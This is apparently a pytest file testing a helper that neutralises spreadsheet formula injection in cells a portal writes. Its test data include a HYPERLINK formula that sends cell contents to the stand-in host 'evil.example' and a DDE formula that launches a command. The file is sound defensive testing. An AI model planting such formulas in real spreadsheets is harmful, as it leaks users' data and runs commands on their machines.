"""Issue 14, finding 8: one helper (``portal.core.cells``) keeps every spreadsheet cell the
portal writes inert: text starting with = + - @ (or tab, CR) gets a leading apostrophe, and
numbers stay numbers."""

from decimal import Decimal

import pytest

from portal.core.cells import is_formula, safe_cell, safe_row

FORMULAS = [
    "=1+2",
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+2",
    "\r=1+2",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "  =1+2",  # leading spaces are ignored by some spreadsheet programs
    "＝1+2",  # full-width equals sign
]
TEXT = ["张三", "3-2-1501", "a=b", "", "email@example.cn", "'quoted", "—", "1-1-0101"]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_text_is_neutralised(value):
    assert is_formula(value)
    assert safe_cell(value) == "'" + value
    assert not is_formula(safe_cell(value))


@pytest.mark.parametrize("value", TEXT)
def test_ordinary_text_unchanged(value):
    assert not is_formula(value)
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-5, -3.5, Decimal("-3.50"), 0, 12, Decimal("88.50")])
def test_numbers_stay_numbers(value):
    """A negative number written as a number is not a formula: it keeps its type."""
    assert safe_cell(value) is value


@pytest.mark.parametrize("value", ["-5", "-3.50", "+12", "-0.01", "1e3"])
def test_numbers_written_as_text_stay_as_they_are(value):
    """Decimal figures are often written as their exact text ("-3.50"): still numbers."""
    assert not is_formula(value)
    assert safe_cell(value) == value


def test_other_values_pass_through():
    assert safe_cell(None) is None and safe_cell(True) is True
    assert safe_row(["=1", -1, "x"]) == ["'=1", -1, "x"]
